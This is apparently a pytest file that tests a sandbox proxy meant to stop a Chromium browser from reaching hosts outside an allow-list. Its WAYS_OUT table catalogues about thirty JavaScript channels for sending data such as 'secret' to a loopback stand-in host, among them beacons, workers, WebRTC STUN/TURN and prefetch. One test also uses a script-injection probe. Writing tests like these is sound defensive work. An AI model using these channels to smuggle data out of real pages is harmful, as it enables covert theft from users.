"""A real Chromium behind the proxy: it gets out nowhere else, by nothing a page can do, and sends nothing twice."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import json
import re
import time
from collections import Counter
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Literal

import pytest
from playwright.async_api import Error, Page

from handeye.sandbox.egress import BROWSER_FLAGS, Egress, Exchange
from handeye.tools.browser import Browser, BrowserOptions
from handeye.tools.computer import opened
from handeye.tools.hosts import Address

from .ports import one_port
from .test_egress import LIMIT_S, run, until


class Web:
    """A site on loopback over TCP with kept connections, and an ear for UDP on the same port.

    What comes is counted: `GET /path`, `tls` for a connection that begins so, `tcp` for each one at all, `udp`."""

    def __init__(self) -> None:
        self.seen: Counter[str] = Counter()
        self.bodies: list[bytes] = []
        self.pages: dict[str, bytes] = {}
        self.port = 0
        self.writers: list[asyncio.StreamWriter] = []

    @property
    def root(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def page(self, path: str, html: str, more: str = "Content-Type: text/html") -> str:
        self.pages[path] = f"HTTP/1.1 200 OK\r\n{more}\r\nContent-Length: {len(html.encode())}\r\n\r\n{html}".encode()
        return self.root + path

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.seen["tcp"] += 1
        self.writers.append(writer)
        try:
            first = await reader.readexactly(1)
            if first == b"\x16":
                self.seen["tls"] += 1
                return
            while not writer.is_closing():
                await self._answer(first + await reader.readuntil(b"\r\n\r\n"), reader, writer)
                first = b""
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError, OSError):
            pass
        finally:
            writer.close()

    async def _answer(self, head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        method, target, _ = head.decode("latin-1").split(" ", 2)
        length = re.search(rb"(?i)content-length: (\d+)", head)
        self.bodies.append(await reader.readexactly(int(length[1]) if length else 0))
        path, _, query = target.partition("?")
        self.seen[f"{method} {path}"] += 1
        key = re.search(rb"(?i)sec-websocket-key: (\S+)", head)
        if key:
            accept = base64.b64encode(hashlib.sha1(key[1] + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest())
            writer.write(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n")
            writer.write(b"Sec-WebSocket-Accept: %s\r\n\r\n\x81\x05hello" % accept)
            await reader.read()
            writer.close()
        elif path == "/to":
            writer.write(f"HTTP/1.1 307 Off\r\nLocation: {query}\r\nContent-Length: 0\r\n\r\n".encode())
        elif path == "/drop":
            writer.close()
        elif re.fullmatch(r"/\d+", path):
            writer.write(f"HTTP/1.1 {path[1:]} X\r\nContent-Length: 2\r\n\r\nok".encode())
        else:
            open_to_all = b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\n\r\nok"
            writer.write(self.pages.get(path, open_to_all))
        await writer.drain()


class Ear(asyncio.DatagramProtocol):
    def __init__(self, web: Web) -> None:
        self._web = web

    def datagram_received(self, data: bytes, addr: object) -> None:
        del data, addr
        self._web.seen["udp"] += 1


@asynccontextmanager
async def web() -> AsyncGenerator[Web]:
    site = Web()
    tcp, udp = one_port("127.0.0.1")
    site.port = tcp.getsockname()[1]
    listener = await asyncio.start_server(site.serve, sock=tcp)
    ear, _ = await asyncio.get_running_loop().create_datagram_endpoint(lambda: Ear(site), sock=udp)
    try:
        yield site
    finally:
        listener.close()
        ear.close()
        for writer in site.writers:
            writer.transport.abort()
        # None outlives its loop.
        await asyncio.gather(*(writer.wait_closed() for writer in site.writers), return_exceptions=True)


@asynccontextmanager
async def browsing(egress: Egress | None) -> AsyncGenerator[Browser]:
    options = BrowserOptions(proxy=egress.url, arguments=BROWSER_FLAGS) if egress else BrowserOptions()
    async with opened(Browser(options)) as browser:
        yield browser


WAYS_OUT = {
    "GET /fetch": "fetch(OFF + '/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "POST /post": "fetch(OFF + '/post', {method: 'POST', mode: 'no-cors', body: 'secret'}).catch(() => 0)",
    "GET /xhr": "const x = new XMLHttpRequest(); x.open('GET', OFF + '/xhr'); x.send()",
    "GET /image": "new Image().src = OFF + '/image'",
    "POST /beacon": "navigator.sendBeacon(OFF + '/beacon', 'secret')",
    "GET /socket": "new WebSocket(OFF.replace('http', 'ws') + '/socket')",
    "GET /events": "new EventSource(OFF + '/events')",
    "GET /script": "add('script', {src: OFF + '/script'})",
    "GET /module": "import(OFF + '/module').catch(() => 0)",
    "GET /style": "add('link', {rel: 'stylesheet', href: OFF + '/style'})",
    "GET /font": "new FontFace('f', `url(${OFF}/font)`).load().catch(() => 0)",
    "GET /video": "add('video', {src: OFF + '/video', preload: 'auto'})",
    "GET /object": "add('object', {data: OFF + '/object'})",
    "GET /frame": "add('iframe', {src: OFF + '/frame'})",
    "GET /refreshed": "add('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${OFF}/refreshed'>`})",
    "POST /form": "const f = add('form', {method: 'POST', action: OFF + '/form', target: 'inner'}); f.submit()",
    "GET /hop": "fetch(`/to?/to?${OFF}/hop`, {mode: 'no-cors'}).catch(() => 0)",
    "POST /posthop": "fetch(`/to?${OFF}/posthop`, {mode: 'no-cors', method: 'POST', body: 's'}).catch(() => 0)",
    "GET /framehop": "add('iframe', {src: `/to?${OFF}/framehop`})",
    "POST /ping": "const a = add('a', {href: '#x', ping: OFF + '/ping'}); a.click()",
    "GET /prefetch": "add('link', {rel: 'prefetch', href: OFF + '/prefetch'})",
    "GET /preload": "add('link', {rel: 'preload', as: 'image', href: OFF + '/preload'})",
    "GET /worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${OFF}/worker', {mode: 'no-cors'})`])))",
    "GET /imported": "new Worker(URL.createObjectURL(new Blob([`importScripts('${OFF}/imported')`])))",
    "GET /fromservice": "navigator.serviceWorker.register('/service.js?' + OFF)",
    "GET /popup": "window.open(OFF + '/popup')",
    "tls": "fetch(OFF.replace('http', 'https') + '/tls').catch(() => 0)",
    "udp": """for (const urls of [`stun:${HOST}`, `turn:${HOST}?transport=udp`, `turn:${HOST}?transport=tcp`]) {
                const peer = new RTCPeerConnection({iceServers: [{urls, username: 'u', credential: 'c'}]});
                peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)) }""",
    "udp ": "new WebTransport(OFF.replace('http', 'https') + '/transport').ready.catch(() => 0)",
    "tcp": "add('link', {rel: 'preconnect', href: OFF}); add('link', {rel: 'dns-prefetch', href: OFF})",
}
"""What arrives where nothing stops it, and what a page does for it."""

PAGE = """<iframe name=inner></iframe><script>
const add = (tag, what) => { const el = Object.assign(document.createElement(tag), what); document.body.append(el); return el }
const HOST = location.hash.slice(1), OFF = 'http://' + HOST
window.go = ways => ways.forEach(way => { try { new Function('add', 'HOST', 'OFF', way)(add, HOST, OFF) } catch (e) { console.error(way, e) } })
</script>"""

SERVICE = "self.addEventListener('install', () => fetch(location.search.slice(1) + '/fromservice', {mode: 'no-cors'}))"


async def try_everything(browser: Browser, site: Web, off: Web) -> Page:
    """The page that tries: the browser's own may be the window it opens."""
    site.page("/service.js", SERVICE, "Content-Type: text/javascript")
    page = browser.page
    await page.goto(f"{site.page('/', PAGE)}#127.0.0.1:{off.port}")
    await page.evaluate("ways => go(ways)", list(WAYS_OUT.values()))
    return page


def test_nothing_a_page_does_reaches_a_host_off_the_list() -> None:
    """And all of it does where nothing stops it, or this would prove nothing."""

    async def work() -> None:
        async with web() as site, web() as off:
            async with browsing(None) as browser:
                await try_everything(browser, site, off)
                wanted = {way.strip() for way in WAYS_OUT} - {"POST /ping"}  # every browser of ours is started without
                until_s = time.monotonic() + LIMIT_S / 2
                while missing := wanted - set(off.seen):
                    assert time.monotonic() < until_s, f"these do nothing at all: {missing}"
                    await asyncio.sleep(0.05)
            off.seen.clear()
            events: list[Exchange] = []
            async with Egress([f"127.0.0.1:{site.port}"], watch=events.append) as egress, browsing(egress) as browser:
                await try_everything(browser, site, off)

                def refused() -> set[str]:
                    to_off = [event for event in events if event.port == off.port]
                    assert {event.decision for event in to_off} <= {"refused"}
                    return {f"{event.method} {event.target}" for event in to_off}

                plain = {way for way in WAYS_OUT if " /" in way} - {"POST /ping", "GET /socket"}
                await until(lambda: plain | {"CONNECT "} <= refused())
                await asyncio.sleep(1)
            assert not off.seen, "not a byte, not a connection"

    run(work())


NAMES_OUT = """for (const rel of ['dns-prefetch', 'preconnect', 'prefetch'])
  for (const scheme of ['http', 'https']) add('link', {rel, href: scheme + '://' + rel + '.invalid/'})
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.invalid:99'}]})
peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))
fetch('http://fetch.invalid/').catch(() => 0); fetch('https://fetch.invalid/').catch(() => 0)"""


def test_not_even_a_question_for_a_name_leaves_the_browser(tmp_path: Path) -> None:
    """By Chromium's own log of all it does on the network."""
    log = tmp_path / "network.json"
    asked: list[str] = []

    async def ask(name: str) -> tuple[Address, ...]:
        asked.append(name)
        return ()

    async def work() -> None:
        async with web() as site, web() as off, Egress([f"127.0.0.1:{site.port}"], ask=ask) as egress:
            options = BrowserOptions(proxy=egress.url, arguments=(*BROWSER_FLAGS, f"--log-net-log={log}"))
            async with opened(Browser(options)) as browser:
                page = await try_everything(browser, site, off)
                await page.evaluate("way => go([way])", NAMES_OUT)
                await asyncio.sleep(2)

    run(work())
    told = json.loads(log.read_text())
    kinds: dict[int, str] = {number: name for name, number in told["constants"]["logEventTypes"].items()}
    happened = Counter(kinds[event["type"]] for event in told["events"])
    assert happened["HTTP_TRANSACTION_TUNNEL_SEND_REQUEST"], "it is a log of what was tried"
    assert not {kind for kind in happened if re.match(r"DNS_TRANSACTION|HOST_RESOLVER_SYSTEM_TASK|UDP_BYTES_SENT", kind)}
    assert asked == []


def test_what_is_allowed_works_and_ends_when_the_list_is_narrowed() -> None:
    async def work() -> None:
        async with web() as site:
            url = site.page("/", "<title>here</title>")
            async with Egress([f"127.0.0.1:{site.port}"]) as egress, browsing(egress) as browser:
                await browser.page.goto(url)
                assert await browser.page.title() == "here"
                assert (
                    await browser.page.evaluate("fetch('/x', {method: 'POST', body: 'é'.repeat(1e6)}).then(r => r.text())")
                    == "ok"
                )
                assert len(site.bodies[-1]) == 2_000_000
                await browser.page.evaluate(
                    "new Promise(done => { window.ws = new WebSocket(location.origin.replace('http', 'ws'));"
                    " ws.onmessage = said => done(said.data); window.over = new Promise(done => ws.onclose = done) })"
                )
                egress.narrow(["example.org"])
                await browser.page.evaluate("window.over.then(() => 1)")
                before = site.seen.total()
                assert await browser.page.evaluate("fetch('/y').then(r => r.status)") == 403
                assert site.seen.total() == before

    run(work())


def test_a_refused_page_says_what_to_type() -> None:
    async def work() -> None:
        async with web() as off, Egress([]) as egress, browsing(egress) as browser:
            await browser.page.goto(f"{off.root}/<b>bold</b>?<script>alert(1)</script>")
            words = await browser.page.inner_text("body")
            assert words == (
                f"handeye: 127.0.0.1:{off.port} is not on the list of hosts that may be reached."
                f" To allow it: --allow 127.0.0.1:{off.port}\n"
            )
            assert not off.seen

    run(work())


@pytest.mark.parametrize("path", ["/drop", "/408", "/421"])
@pytest.mark.parametrize("how", ["fetch", "form"])
def test_what_is_stored_is_stored_once(path: str, how: str) -> None:
    """Chromium sends all of these again where it reaches the server itself over a connection that was used before."""
    forms = f"<form method=post action={path}><input name=a value=b><button>Save</button></form>"

    async def save(browser: Browser, site: Web) -> None:
        await browser.page.goto(site.page("/", forms))
        await browser.page.evaluate("(async () => { for (const i of [1, 2, 3]) await (await fetch('/warm')).text() })()")
        if how == "form":
            async with browser.page.expect_event("requestfinished", lambda r: r.method == "POST"):
                await browser.page.click("button", no_wait_after=True)
        else:
            await browser.page.evaluate(f"fetch('{path}', {{method: 'POST', body: 'a=b'}}).then(r => r.text()).catch(() => 0)")

    async def work() -> None:
        async with web() as site:
            events: list[Exchange] = []
            async with Egress([f"127.0.0.1:{site.port}"], watch=events.append) as egress, browsing(egress) as browser:
                mark = egress.mark()
                await save(browser, site)
                await asyncio.sleep(0.5)
                assert site.seen[f"POST {path}"] == 1
                (sent,) = egress.sent_since(mark)
                assert (sent.decision, sent.target) == ("sent", path)
                assert sent.delivery == ("unknown" if path == "/drop" else "answered")
                assert sent.status == (None if path == "/drop" else int(path[1:]))

    run(work())


def test_chromium_by_itself_would_send_it_again() -> None:
    """The reason for all this. When this fails, Chromium has changed, and the proxy may become simpler."""

    async def work() -> None:
        async with web() as site, browsing(None) as browser:
            await browser.page.goto(site.page("/", "x"))
            for path in ("/drop", "/408", "/421"):
                await browser.page.evaluate(
                    "(async () => { for (const i of [1, 2, 3]) await (await fetch('/warm')).text() })()"
                )
                await browser.page.evaluate(
                    f"fetch('{path}', {{method: 'POST', body: 'a=b'}}).then(r => r.text()).catch(() => 0)"
                )
                assert site.seen[f"POST {path}"] > 1

    run(work())


@pytest.mark.parametrize("verdict", ["allow", "refuse"])
def test_a_form_waits_for_a_decision(verdict: Literal["allow", "refuse"]) -> None:
    held: list[Exchange] = []
    go = asyncio.Event()

    async def hold(exchange: Exchange) -> Literal["allow", "refuse"]:
        held.append(exchange)
        await go.wait()
        return verdict

    async def work() -> None:
        async with web() as site, Egress([f"127.0.0.1:{site.port}"], hold=hold) as egress, browsing(egress) as browser:
            await browser.page.goto(site.page("/", "<form method=post action=/save><button>Save</button></form>"))
            site.page("/save", "<p>Saved</p>")
            await browser.page.click("button", no_wait_after=True)
            await until(lambda: held)
            await asyncio.sleep(0.5)
            assert not site.seen["POST /save"]
            assert held[0].target == "/save"
            go.set()
            words = "Saved" if verdict == "allow" else "not approved"
            await browser.page.get_by_text(words).wait_for()
            assert site.seen["POST /save"] == (verdict == "allow")

    run(work())


def test_without_its_proxy_a_browser_gets_nowhere() -> None:
    async def work() -> None:
        async with web() as site:
            async with Egress([f"127.0.0.1:{site.port}"]) as egress:
                opening = browsing(egress)
                browser = await opening.__aenter__()
                await browser.page.goto(site.page("/", "x"))
            try:
                before = site.seen.total()
                assert await browser.page.evaluate("fetch('/y').catch(() => 'nowhere')") == "nowhere"
                with pytest.raises(Error, match="ERR_PROXY_CONNECTION_FAILED"):
                    await browser.page.goto(site.root)
                assert site.seen.total() == before
            finally:
                await opening.__aexit__(None, None, None)

    run(work())
